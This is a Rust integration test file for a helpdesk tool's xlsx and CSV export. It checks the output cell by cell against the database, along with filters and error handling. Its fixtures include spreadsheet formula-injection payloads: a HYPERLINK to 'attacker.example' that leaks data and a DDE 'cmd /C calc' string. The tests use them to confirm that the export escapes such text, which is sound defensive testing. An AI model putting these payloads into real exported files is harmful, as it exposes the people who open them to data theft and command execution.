//! The real binary: `helpdesk export` to xlsx and CSV. Every file is read back
//! (calamine, the csv crate, the zip itself) and compared cell by cell with
//! the database, read on its own with SQL rather than through the export code.

mod support;

use calamine::{Data, Reader, Xlsx, open_workbook};
use chrono::{DateTime, Datelike, NaiveDate, Offset, SubsecRound, TimeZone, Utc};
use chrono_tz::Tz;
use helpdesk::config::Settings;
use helpdesk::domain::{Kind, Named, Priority, sla};
use helpdesk::services::requests::{self, NewTicket, TicketItem};
use helpdesk::services::{Actor, directory};
use predicates::str::contains;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Read;
use std::path::Path;
use support::{STOREKEEPER, SUPPORT, Value, Workdir};

const ZONE: &str = "Europe/Kyiv";

const HEADERS: [&str; 24] = [
    "number",
    "created",
    "kind",
    "priority",
    "status",
    "branch",
    "branch_name",
    "author",
    "author_id",
    "contact_name",
    "contact_phone",
    "description",
    "assignee",
    "assignee_id",
    "accepted",
    "closed",
    "rejection_reason",
    "archived",
    "archived_at",
    "sla_breached",
    "accept_reminders",
    "resolve_reminders",
    "last_reminder",
    "accept_due",
];

/// Every request with what it refers to, oldest first, straight from the database.
const REQUESTS_SQL: &str = "SELECT r.id, r.created_at, r.kind, r.priority, r.status, b.code, b.name, a.full_name, \
    r.author_id, r.contact_name, r.contact_phone, r.description, s.full_name, r.assignee_id, r.accepted_at, \
    r.closed_at, r.rejection_reason, r.archived_at, r.sla_level, r.sla_resolve_level, r.sla_notified_at \
    FROM requests r JOIN branches b ON b.id = r.branch_id JOIN users a ON a.telegram_id = r.author_id \
    LEFT JOIN users s ON s.telegram_id = r.assignee_id ORDER BY r.created_at, r.id";

const ITEMS_SQL: &str = "SELECT i.request_id, c.vendor_article, c.name, i.quantity, i.issued_quantity, i.comment, \
    r.archived_at, p.inventory_number FROM request_items i JOIN cartridge_types c ON c.id = i.cartridge_type_id \
    JOIN requests r ON r.id = i.request_id LEFT JOIN printers p ON p.id = i.printer_id ORDER BY i.request_id, i.id";

/// A cell as the database says it must be.
#[derive(Debug, Clone, PartialEq)]
enum Want {
    /// A request number: the number in the workbook, HD-000123 in CSV.
    Number(i64),
    Text(String),
    Int(i64),
    Time(DateTime<Utc>),
    Flag(bool),
    Empty,
    /// A yes or no that changed while the test ran (an SLA falling due).
    EitherFlag,
}

fn text(v: &Value) -> Want {
    v.text().map_or(Want::Empty, |s| Want::Text(s.to_string()))
}

fn int(v: &Value) -> Want {
    v.int().map_or(Want::Empty, Want::Int)
}

fn time(v: &Value) -> Want {
    v.time().map_or(Want::Empty, Want::Time)
}

/// A request as expected in the export.
#[derive(Debug, Clone)]
struct Expected {
    id: i64,
    created: DateTime<Utc>,
    accepted: Option<DateTime<Utc>>,
    closed: Option<DateTime<Utc>>,
    kind: String,
    status: String,
    branch: String,
    archived: bool,
    cells: Vec<Want>,
}

impl Expected {
    fn breached(&self) -> Option<bool> {
        match &self.cells[19] {
            Want::Flag(b) => Some(*b),
            _ => None,
        }
    }
}

/// Whether a request breached the default SLA at `now` (the rules of domain::sla, limits from the defaults).
fn breached_at(row: &[Value], now: DateTime<Utc>) -> bool {
    let s = Settings::defaults().sla;
    let priority = Priority::parse_named(row[3].text().unwrap()).unwrap();
    let (created, accepted, closed) = (row[1].time().unwrap(), row[14].time(), row[15].time());
    sla::accept_breached(sla::due_at(None, created, s.accept.get(priority)), accepted, closed, now)
        || s.resolve.get(priority).is_some_and(|l| sla::resolve_breached(sla::due_at(None, created, l), closed, now))
}

/// Every request as the export must show it; the SLA state is taken at both
/// ends of the export and left open where it changed in between.
fn expected(w: &Workdir, before: DateTime<Utc>, after: DateTime<Utc>) -> Vec<Expected> {
    w.rows(REQUESTS_SQL)
        .iter()
        .map(|row| {
            let (b1, b2) = (breached_at(row, before), breached_at(row, after));
            let cells = vec![
                Want::Number(row[0].int().unwrap()),
                time(&row[1]),
                text(&row[2]),
                text(&row[3]),
                text(&row[4]),
                text(&row[5]),
                text(&row[6]),
                text(&row[7]),
                int(&row[8]),
                text(&row[9]),
                text(&row[10]),
                text(&row[11]),
                text(&row[12]),
                int(&row[13]),
                time(&row[14]),
                time(&row[15]),
                text(&row[16]),
                Want::Flag(row[17] != Value::Null),
                time(&row[17]),
                if b1 == b2 { Want::Flag(b1) } else { Want::EitherFlag },
                int(&row[18]),
                int(&row[19]),
                time(&row[20]),
                // No calendar here: the accept limit (1h by default) round the clock.
                Want::Time(sla::due_at(
                    None,
                    row[1].time().unwrap(),
                    Settings::defaults().sla.accept.get(Priority::parse_named(row[3].text().unwrap()).unwrap()),
                )),
            ];
            Expected {
                id: row[0].int().unwrap(),
                created: row[1].time().unwrap(),
                accepted: row[14].time(),
                closed: row[15].time(),
                kind: row[2].text().unwrap().into(),
                status: row[4].text().unwrap().into(),
                branch: row[5].text().unwrap().into(),
                archived: row[17] != Value::Null,
                cells,
            }
        })
        .collect()
}

fn tz() -> Tz {
    ZONE.parse().unwrap()
}

/// Excel's serial date-time of `t` in the test zone.
fn serial(t: DateTime<Utc>) -> f64 {
    let local = t.with_timezone(&tz()).naive_local();
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30).unwrap().and_hms_opt(0, 0, 0).unwrap();
    (local - epoch).num_microseconds().unwrap() as f64 / 86_400e6
}

fn check_xlsx_cell(got: &Data, want: &Want, at: &str) {
    let ok = match (want, got) {
        (Want::Number(n) | Want::Int(n), Data::Float(f)) => *f == *n as f64,
        (Want::Number(n) | Want::Int(n), Data::Int(i)) => i == n,
        (Want::Text(s), Data::String(g)) => s == g,
        (Want::Time(t), Data::DateTime(d)) => (d.as_f64() - serial(*t)).abs() * 86_400.0 < 0.001,
        (Want::Flag(b), Data::Bool(g)) => b == g,
        (Want::EitherFlag, Data::Bool(_)) => true,
        (Want::Empty, Data::Empty) => true,
        _ => false,
    };
    assert!(ok, "{at}: got {got:?}, want {want:?}");
}

fn check_csv_field(got: &str, want: &Want, at: &str) {
    let ok = match want {
        Want::Number(n) => got == format!("HD-{n:06}"),
        Want::Int(n) => got == n.to_string(),
        // Text a spreadsheet would run as a formula is written with an apostrophe in front.
        Want::Text(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => got == format!("'{s}"),
        Want::Text(s) => got == s,
        Want::Time(t) => {
            let parsed = DateTime::parse_from_rfc3339(got).unwrap_or_else(|e| panic!("{at}: {got}: {e}"));
            let offset = tz().offset_from_utc_datetime(&t.naive_utc()).fix();
            parsed == t.trunc_subsecs(0) && *parsed.offset() == offset
        }
        Want::Flag(b) => got == b.to_string(),
        Want::EitherFlag => got == "true" || got == "false",
        Want::Empty => got.is_empty(),
    };
    assert!(ok, "{at}: got {got:?}, want {want:?}");
}

/// Runs `helpdesk export` in the test zone and returns (stdout, stderr).
fn export(w: &Workdir, args: &[&str]) -> (String, String) {
    let out = w.cmd().env("HELPDESK_TIMEZONE", ZONE).arg("export").args(args).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "export {args:?}: {stderr}");
    (String::from_utf8_lossy(&out.stdout).to_string(), stderr)
}

fn sheet(path: &Path, name: &str) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = open_workbook(path).unwrap();
    let range = book.worksheet_range(name).unwrap_or_else(|e| panic!("sheet {name}: {e}"));
    range.rows().map(|r| r.to_vec()).collect()
}

fn zip_entry(path: &Path, name: &str) -> Option<String> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut entry = zip.by_name(name).ok()?;
    let mut s = String::new();
    entry.read_to_string(&mut s).unwrap();
    Some(s)
}

fn header(row: &[Data]) -> Vec<String> {
    row.iter().map(|c| c.to_string()).collect()
}

/// A seeded database with demo requests and some made through the services:
/// text that needs escaping, a rejection with its reason, an archived
/// request, cartridge lines with comments, and one stock row below its minimum.
fn populated() -> Workdir {
    let w = Workdir::seeded();
    w.cmd().args(["seed", "--demo", "--requests", "1500", "--months", "4", "--consumption"]).assert().success();
    let (app, _) = w.app();
    let author = 555_000_333;
    let op = Actor::Operator("test".into());
    directory::add_user(
        &app,
        &op,
        &directory::NewPerson {
            telegram_id: author,
            full_name: "Олена <Коваль> & \"Ко\"".into(),
            branch: Some(helpdesk::domain::Key::Code("LVIV".into())),
            ..Default::default()
        },
    )
    .unwrap();
    let store = w.store();
    let cartridge = store.read().unwrap().cartridge_type_by_article("CE285A").unwrap().unwrap();
    let other = store.read().unwrap().cartridge_type_by_article("CF283A").unwrap().unwrap();
    // A printer at the author's branch (Lviv) for one line.
    let printer = store.write().unwrap().printer_by_inventory_number("INV-0007").unwrap().unwrap();
    let file = |kind: Kind, description: &str, items: Vec<TicketItem>| {
        requests::create(
            &app,
            &Actor::Telegram(author),
            &NewTicket {
                kind,
                branch_id: None,
                contact_name: "Олена".into(),
                contact_phone: "067 123 45 67".into(),
                description: description.into(),
                priority: Priority::High,
                items,
                attachments: vec![],
                client_key: None,
            },
        )
        .unwrap()
    };
    let order = file(
        Kind::Cartridge,
        "Два картриджа \"срочно\" <b>&amp;</b>\nвторая строка\tс табуляцией 🖨",
        vec![
            TicketItem {
                cartridge_type_id: cartridge.id,
                quantity: 2,
                comment: Some("в приёмную <1>".into()),
                printer_id: None,
            },
            TicketItem { cartridge_type_id: other.id, quantity: 1, comment: None, printer_id: Some(printer.id) },
        ],
    );
    requests::accept(&app, &Actor::Telegram(STOREKEEPER), order.id).unwrap();
    let repair = file(Kind::Repair, "=SUM(A1:A2) не формула, _x0041_ не escape", vec![]);
    requests::reject(&app, &Actor::Telegram(SUPPORT), repair.id, "Дубликат; см. HD-000001 & <прочее>").unwrap();
    requests::archive(&app, &op, repair.id).unwrap();
    file(Kind::ItHelp, "  пробелы по краям  ", vec![]);
    // Done and rated 4 by its author (at Lviv): the Summary's ratings.
    let rated = file(Kind::ItHelp, "Настроить почту", vec![]);
    requests::accept(&app, &Actor::Telegram(SUPPORT), rated.id).unwrap();
    requests::complete(&app, &Actor::Telegram(SUPPORT), rated.id).unwrap();
    helpdesk::services::ratings::rate(&app, &Actor::Telegram(author), rated.id, 4, Some("хорошо")).unwrap();
    file(Kind::ItHelp, "=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")", vec![]);
    file(Kind::Maintenance, "@SUM(1+1)*cmd|' /C calc'!A0", vec![]);
    let mut tx = store.write().unwrap();
    let central = tx.warehouse_by_code("CENTRAL").unwrap().unwrap();
    support::set_stock(&mut *tx, cartridge.id, central.id, 0, Utc::now()).unwrap();
    tx.commit().unwrap();
    w
}

#[test]
fn the_workbook_holds_every_request_cell_by_cell() {
    let w = populated();
    let before = Utc::now();
    let (stdout, stderr) = export(&w, &["-o", "all.xlsx", "--include-archived"]);
    let after = Utc::now();
    assert_eq!(stderr, "", "no progress bar off a terminal");
    let path = w.path().join("all.xlsx");
    let all = expected(&w, before, after);
    assert!(all.len() > 1500);
    assert!(stdout.starts_with("wrote all.xlsx ("), "{stdout}");
    for (sheet, rows) in [("Requests", all.len()), ("Summary", 8)] {
        assert!(
            stdout.lines().any(|l| l.contains(sheet) && l.contains(&format!(" {rows} "))),
            "{sheet} {rows}: {stdout}"
        );
    }

    // Requests: the header, then every cell of every request, oldest first.
    let rows = sheet(&path, "Requests");
    assert_eq!(header(&rows[0]), HEADERS);
    assert_eq!(rows.len(), all.len() + 1);
    for (row, want) in rows[1..].iter().zip(&all) {
        assert_eq!(row.len(), HEADERS.len(), "HD-{:06}: width", want.id);
        for (col, (got, w)) in row.iter().zip(&want.cells).enumerate() {
            check_xlsx_cell(got, w, &format!("HD-{:06} {}", want.id, HEADERS[col]));
        }
    }
    let xml = zip_entry(&path, "xl/worksheets/sheet4.xml").unwrap();
    assert!(xml.contains(r#"state="frozen""#), "header row frozen");
    let workbook = zip_entry(&path, "xl/workbook.xml").unwrap();
    assert!(workbook.contains(&format!("Requests!$A$1:$X${}", all.len() + 1)), "autofilter over every row");
    let styles = zip_entry(&path, "xl/styles.xml").unwrap();
    assert!(styles.contains(r#"formatCode="yyyy-mm-dd hh:mm:ss""#));

    // Items: every cartridge line, by request.
    let items = sheet(&path, "Items");
    assert_eq!(header(&items[0]), ["request", "article", "cartridge", "quantity", "issued", "comment", "printer"]);
    let db_items = w.rows(ITEMS_SQL);
    assert_eq!(items.len(), db_items.len() + 1);
    for (row, db) in items[1..].iter().zip(&db_items) {
        let want = [
            Want::Number(db[0].int().unwrap()),
            text(&db[1]),
            text(&db[2]),
            int(&db[3]),
            int(&db[4]),
            text(&db[5]),
            text(&db[7]),
        ];
        for (col, (got, w)) in row.iter().zip(&want).enumerate() {
            check_xlsx_cell(got, w, &format!("item of HD-{:06}, column {col}", db[0].int().unwrap()));
        }
    }
    assert!(items.iter().any(|r| r[5] == Data::String("в приёмную <1>".into())));
    assert!(items.iter().any(|r| r[6] == Data::String("INV-0007".into())), "the line's printer");

    // Summary: counts by status and kind per branch, averages, breaches, and the total.
    let summary = sheet(&path, "Summary");
    let heads = header(&summary[0]);
    assert_eq!(heads[..3], ["branch", "branch_name", "requests"]);
    assert_eq!(
        heads[heads.len() - 7..],
        [
            "avg_to_accept",
            "avg_to_close",
            "sla_breaches",
            "avg_to_accept_working",
            "avg_to_close_working",
            "ratings",
            "rating_avg"
        ]
    );
    let col = |name: &str| heads.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"));
    let branches = w.int("SELECT count(*) FROM branches") as usize;
    assert_eq!(summary.len(), branches + 2, "a row per branch and the total");
    for line in &summary[1..] {
        let code = line[0].to_string();
        let mine: Vec<&Expected> = all.iter().filter(|e| code == "TOTAL" || e.branch == code).collect();
        let num = |name: &str| match &line[col(name)] {
            Data::Float(f) => *f,
            Data::DateTime(d) => d.as_f64(),
            Data::Empty => f64::NAN,
            other => panic!("{code} {name}: {other:?}"),
        };
        assert_eq!(num("requests"), mine.len() as f64, "{code}");
        for s in helpdesk::domain::Status::ALL {
            assert_eq!(num(s.as_str()), mine.iter().filter(|e| e.status == s.as_str()).count() as f64, "{code} {s}");
        }
        for k in Kind::ALL {
            assert_eq!(num(k.as_str()), mine.iter().filter(|e| e.kind == k.as_str()).count() as f64, "{code} {k}");
        }
        let mean = |pairs: Vec<(DateTime<Utc>, DateTime<Utc>)>| {
            let n = pairs.len() as f64;
            pairs.iter().map(|(a, b)| (*b - *a).num_milliseconds() as f64 / 1000.0).sum::<f64>() / n / 86_400.0
        };
        let accept = mean(mine.iter().filter_map(|e| Some((e.created, e.accepted?))).collect());
        let close = mean(mine.iter().filter_map(|e| Some((e.created, e.closed?))).collect());
        // No calendar is defined here: working time runs round the clock.
        for (name, want) in [
            ("avg_to_accept", accept),
            ("avg_to_close", close),
            ("avg_to_accept_working", accept),
            ("avg_to_close_working", close),
        ] {
            let got = num(name);
            assert!(
                (got.is_nan() && want.is_nan()) || (got - want).abs() * 86_400.0 < 1.0,
                "{code} {name}: {got} vs {want}"
            );
        }
        let sure = mine.iter().filter(|e| e.breached() == Some(true)).count() as f64;
        let unsure = mine.iter().filter(|e| e.breached().is_none()).count() as f64;
        let got = num("sla_breaches");
        assert!(got >= sure && got <= sure + unsure, "{code} breaches {got}, want {sure} (+{unsure})");
        let rated = code == "TOTAL" || code == "LVIV";
        assert_eq!(num("ratings"), if rated { 1.0 } else { 0.0 }, "{code}");
        assert!(if rated { num("rating_avg") == 4.0 } else { num("rating_avg").is_nan() }, "{code}");
    }
    assert_eq!(summary.last().unwrap()[0], Data::String("TOTAL".into()));

    // Ratings: the one rating, for its branch, its assignee and in all.
    let ratings = sheet(&path, "Ratings");
    assert_eq!(
        header(&ratings[0]),
        ["by", "code", "name", "ratings", "rating_avg", "rated_1", "rated_2", "rated_3", "rated_4", "rated_5"]
    );
    let shown: Vec<Vec<String>> = ratings[1..].iter().map(|r| r.iter().map(|c| c.to_string()).collect()).collect();
    let four = ["1", "4", "0", "0", "0", "1", "0"].map(String::from);
    assert_eq!(shown.len(), 3, "{shown:?}");
    assert_eq!(shown[0][..3], ["branch", "LVIV", "Львов"].map(String::from), "{shown:?}");
    assert_eq!(shown[1][..3], ["staff", "", "Андрей Мельник"].map(String::from), "{shown:?}");
    assert_eq!(shown[2][1], "TOTAL");
    for line in &shown {
        assert_eq!(line[3..], four, "{shown:?}");
    }

    // Months: every month from the first request to the last, in the configured zone.
    let months = sheet(&path, "Months");
    assert_eq!(header(&months[0])[..2], ["month", "requests"]);
    let mut by_month: BTreeMap<(i32, u32), usize> = BTreeMap::new();
    for e in &all {
        let local = e.created.with_timezone(&tz());
        *by_month.entry((local.year(), local.month())).or_default() += 1;
    }
    let (first, last) = (*by_month.keys().next().unwrap(), *by_month.keys().next_back().unwrap());
    let span = (last.0 - first.0) * 12 + last.1 as i32 - first.1 as i32 + 1;
    assert_eq!(months.len() as i32 - 1, span);
    for m in &months[1..] {
        let Data::DateTime(d) = &m[0] else { panic!("month {:?}", m[0]) };
        let day = NaiveDate::from_ymd_opt(1899, 12, 30).unwrap() + chrono::Duration::days(d.as_f64() as i64);
        assert_eq!(day.day(), 1);
        let want = by_month.get(&(day.year(), day.month())).copied().unwrap_or(0);
        assert_eq!(m[1], Data::Float(want as f64), "{day}");
    }

    // Forecast: what `stock forecast` says, row by row, soonest to run out first.
    let forecast = sheet(&path, "Forecast");
    assert_eq!(
        header(&forecast[0]),
        [
            "warehouse",
            "article",
            "cartridge",
            "full",
            "empty",
            "at_contractor",
            "issued_90d",
            "per_month",
            "days_left",
            "runs_out",
            "within_lead_time",
            "order"
        ]
    );
    let said = w.json_rows(&["stock", "forecast"]);
    assert_eq!(forecast.len() - 1, said.len());
    assert!(said.iter().any(|r| r["days_left"].is_number()), "the consumption history is forecast");
    for (row, r) in forecast[1..].iter().zip(&said) {
        assert_eq!(row[0], Data::String(r["warehouse"].as_str().unwrap().into()));
        assert_eq!(row[1], Data::String(r["article"].as_str().unwrap().into()));
        assert_eq!(row[3], Data::Float(r["full"].as_f64().unwrap()));
        assert_eq!(row[7], Data::Float(r["per_month"].as_f64().unwrap()));
        match r["days_left"].as_f64() {
            Some(d) => assert_eq!(row[8], Data::Float(d)),
            None => assert_eq!(row[8], Data::Empty),
        }
        assert_eq!(row[10], Data::Bool(r["within_lead_time"].as_bool().unwrap()));
        assert_eq!(row[11], Data::Float(r["order"].as_f64().unwrap()));
    }

    // Stock: every row, those below their minimum flagged and highlighted.
    let stock = sheet(&path, "Stock");
    assert_eq!(
        header(&stock[0]),
        ["warehouse", "article", "cartridge", "quantity", "minimum", "below_minimum", "updated", "empty"]
    );
    assert_eq!(stock.len() as i64 - 1, w.int("SELECT count(*) FROM stock_items"));
    let low = w.int(
        "SELECT count(*) FROM stock_items s JOIN cartridge_types c ON c.id = s.cartridge_type_id WHERE s.quantity < c.min_stock",
    );
    assert!(low >= 1);
    assert_eq!(stock.iter().filter(|r| r[5] == Data::Bool(true)).count() as i64, low);
    for r in &stock[1..] {
        let (Data::Float(q), Data::Float(min)) = (&r[3], &r[4]) else { panic!("{r:?}") };
        assert_eq!(r[5], Data::Bool(q < min));
    }
    assert!(styles.contains("FFFFC7CE"), "a highlight fill");
    let stock_xml = zip_entry(&path, "xl/worksheets/sheet6.xml").unwrap();
    let style_of_row = |flag: &str| -> BTreeSet<String> {
        stock_xml
            .split("<row ")
            .filter(|r| r.contains(&format!(r#"t="b"><v>{flag}</v>"#)))
            .filter_map(|r| r.split(r#" s=""#).nth(1).map(|s| s.split('"').next().unwrap().to_string()))
            .collect()
    };
    let (low_styles, plain_styles) = (style_of_row("1"), style_of_row("0"));
    assert!(!low_styles.is_empty() && low_styles.is_disjoint(&plain_styles), "{low_styles:?} {plain_styles:?}");

    // Charts: requests per branch and per month.
    let charts: Vec<String> = (1..=2).filter_map(|i| zip_entry(&path, &format!("xl/charts/chart{i}.xml"))).collect();
    assert_eq!(charts.len(), 2);
    assert!(charts.iter().any(|c| c.contains("Requests per branch")));
    assert!(charts.iter().any(|c| c.contains("Requests per month")));
}

#[test]
fn filters_select_the_same_requests_as_the_database() {
    let w = populated();
    let all = expected(&w, Utc::now(), Utc::now());
    // Archived requests are left out unless asked for.
    export(&w, &["-o", "default.xlsx"]);
    let rows = sheet(&w.path().join("default.xlsx"), "Requests");
    let live: Vec<i64> = all.iter().filter(|e| !e.archived).map(|e| e.id).collect();
    assert_eq!(rows.len() - 1, live.len());
    assert!(all.iter().any(|e| e.archived));
    let ids = |rows: &[Vec<Data>]| -> Vec<i64> {
        rows[1..]
            .iter()
            .map(|r| match r[0] {
                Data::Float(f) => f as i64,
                ref other => panic!("{other:?}"),
            })
            .collect()
    };
    assert_eq!(ids(&rows), live);

    // Dates in the configured zone, --until taking its whole day; branch by name; kinds and statuses.
    let day = |e: &Expected| e.created.with_timezone(&tz()).date_naive();
    let (from, until) = (day(&all[all.len() / 3]), day(&all[all.len() * 2 / 3]));
    let (from_s, until_s) = (from.to_string(), until.to_string());
    export(
        &w,
        &[
            "-o",
            "some.xlsx",
            "--from",
            &from_s,
            "--until",
            &until_s,
            "--branch",
            "Харьков",
            "--kind",
            "cartridge,repair",
            "--status",
            "done",
            "--status",
            "rejected",
        ],
    );
    let want: Vec<i64> = all
        .iter()
        .filter(|e| {
            !e.archived
                && day(e) >= from
                && day(e) <= until
                && e.branch == "KHARKIV"
                && ["cartridge", "repair"].contains(&e.kind.as_str())
                && ["done", "rejected"].contains(&e.status.as_str())
        })
        .map(|e| e.id)
        .collect();
    assert!(!want.is_empty());
    let path = w.path().join("some.xlsx");
    assert_eq!(ids(&sheet(&path, "Requests")), want);
    // The summary speaks of the branch asked for only; items of the requests selected only.
    let summary = sheet(&path, "Summary");
    assert_eq!(summary.len(), 3);
    assert_eq!(summary[1][0], Data::String("KHARKIV".into()));
    let items = sheet(&path, "Items");
    let selected: BTreeSet<i64> = want.iter().copied().collect();
    let got: Vec<(i64, String)> = items[1..]
        .iter()
        .map(|r| match (&r[0], &r[1]) {
            (Data::Float(f), Data::String(article)) => (*f as i64, article.clone()),
            other => panic!("{other:?}"),
        })
        .collect();
    let want_items: Vec<(i64, String)> = w
        .rows(ITEMS_SQL)
        .iter()
        .map(|db| (db[0].int().unwrap(), db[1].text().unwrap().to_string()))
        .filter(|(request, _)| selected.contains(request))
        .collect();
    assert!(!want_items.is_empty(), "the selection has cartridge orders with items");
    assert_eq!(got, want_items);

    // Nothing matches: a file with headers only.
    let (stdout, _) = export(&w, &["-o", "none.xlsx", "--from", "2001-01-01", "--until", "2001-01-31"]);
    assert!(stdout.contains("Requests"), "{stdout}");
    assert_eq!(sheet(&w.path().join("none.xlsx"), "Requests").len(), 1);
}

#[test]
fn csv_has_the_same_columns_with_iso_dates() {
    let w = populated();
    let before = Utc::now();
    let (stdout, stderr) = export(&w, &["-o", "all.csv", "--include-archived"]);
    let (piped, _) = export(&w, &["--format", "csv", "-o", "-", "--include-archived"]);
    let after = Utc::now();
    assert_eq!(stderr, "");
    assert!(stdout.starts_with("wrote all.csv ("), "{stdout}");
    let all = expected(&w, before, after);
    let file = std::fs::read_to_string(w.path().join("all.csv")).unwrap();
    for (what, content) in [("file", file.as_str()), ("stdout", piped.as_str())] {
        let mut reader = csv::Reader::from_reader(content.as_bytes());
        let heads: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(heads, HEADERS, "{what}");
        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(records.len(), all.len(), "{what}");
        let at = HEADERS.iter().position(|h| *h == "description").unwrap();
        let descriptions: Vec<&str> = records.iter().map(|r| &r[at]).collect();
        for formula in [
            "'=SUM(A1:A2) не формула, _x0041_ не escape",
            "'=HYPERLINK(\"http://attacker.example/?leak\";\"Подробнее\")",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
        ] {
            assert!(descriptions.contains(&formula), "{what}: {formula} in {descriptions:?}");
        }
        for (record, want) in records.iter().zip(&all) {
            for (col, (got, w)) in record.iter().zip(&want.cells).enumerate() {
                check_csv_field(got, w, &format!("{what} HD-{:06} {}", want.id, HEADERS[col]));
            }
        }
    }
    // A reader that goes away (`| head`) ends the export quietly, as other listings do.
    let mut child = w
        .process()
        .args(["export", "--format", "csv", "-o", "-", "--include-archived"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut first).unwrap();
    assert!(first.starts_with("number,created,"), "{first}");
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");

    // The format follows the extension, and the filters are the same.
    export(&w, &["-o", "new.CSV", "--status", "new"]);
    let text = std::fs::read_to_string(w.path().join("new.CSV")).unwrap();
    let n = all.iter().filter(|e| e.status == "new" && !e.archived).count();
    assert_eq!(text.lines().count(), n + 1);
}

/// Names in the working directory, but the database's own files.
fn files(w: &Workdir) -> BTreeSet<String> {
    std::fs::read_dir(w.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| !n.starts_with("helpdesk.db"))
        .collect()
}

#[test]
fn bad_input_is_one_line_and_leaves_nothing_behind() {
    let w = Workdir::seeded();
    w.cmd().args(["seed", "--demo", "--requests", "50"]).assert().success();
    std::fs::write(w.path().join("old.xlsx"), "the previous export").unwrap();
    std::fs::create_dir(w.path().join("dir.xlsx")).unwrap();
    let locked = w.path().join("locked");
    std::fs::create_dir(&locked).unwrap();
    let requests = w.int("SELECT count(*) FROM requests");
    let before = files(&w);
    let cases: &[(&[&str], i32, &str)] = &[
        (
            &["-o", "old.xlsx", "--from", "2026-02-30"],
            1,
            "error: --from '2026-02-30' is not a date; use YYYY-MM-DD, e.g. 2026-03-31\n",
        ),
        (&["-o", "old.xlsx", "--until", "yesterday"], 1, "error: --until 'yesterday' is not a date"),
        (&["-o", "old.xlsx", "--from", "2026-03-02", "--until", "2026-03-01"], 1, "error: --from is after --until"),
        (
            &["-o", "old.xlsx", "--branch", "NOWHERE"],
            1,
            "error: unknown branch 'NOWHERE'; run `helpdesk branches list` to see them\n",
        ),
        (&["-o", "old.xlsx", "--kind", "teleport"], 2, "invalid value 'teleport' for '--kind <KIND>'"),
        (&["-o", "old.xlsx", "--status", "lost"], 2, "invalid value 'lost' for '--status <STATUS>'"),
        (&["-o", "report.txt"], 1, "error: -o report.txt: name a .xlsx or .csv file, or give --format\n"),
        (&["-o", "old.xlsx", "--format", "csv"], 1, "error: -o old.xlsx: --format csv writes a .csv file"),
        (&["-o", "-"], 1, "error: -o - writes to standard output, which only --format csv can"),
        (&["-o", "missing/out.xlsx"], 1, "error: cannot write missing/out.xlsx: no directory missing\n"),
        (&["-o", "dir.xlsx"], 1, "error: dir.xlsx is a directory; name a file to write\n"),
    ];
    for (args, code, message) in cases {
        let out = w.cmd().arg("export").args(*args).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(*code), "{args:?}: {stderr}");
        assert!(stderr.contains(message), "{args:?}: {stderr}");
        if *code == 1 {
            assert_eq!(stderr.lines().count(), 1, "{args:?}: {stderr}");
        }
        assert!(out.stdout.is_empty(), "{args:?}");
        assert_eq!(files(&w), before, "{args:?} left a file");
        assert_eq!(std::fs::read_to_string(w.path().join("old.xlsx")).unwrap(), "the previous export");
    }
    assert_eq!(w.int("SELECT count(*) FROM requests"), requests);

    // A directory that cannot be written to (as root, who can write anywhere,
    // the export runs without the capabilities that let it).
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o555)).unwrap();
    w.cmd_without_root_powers()
        .args(["export", "-o", "locked/out.xlsx"])
        .assert()
        .code(1)
        .stderr("error: cannot write locked/out.xlsx: permission denied in locked\n");
    assert_eq!(std::fs::read_dir(&locked).unwrap().count(), 0);

    // A good export replaces the old file, and only the file asked for appears.
    w.cmd().args(["export", "-o", "old.xlsx"]).assert().success().stdout(contains("wrote old.xlsx"));
    assert_eq!(sheet(&w.path().join("old.xlsx"), "Requests").len(), 51);
    assert_eq!(files(&w), before);
}
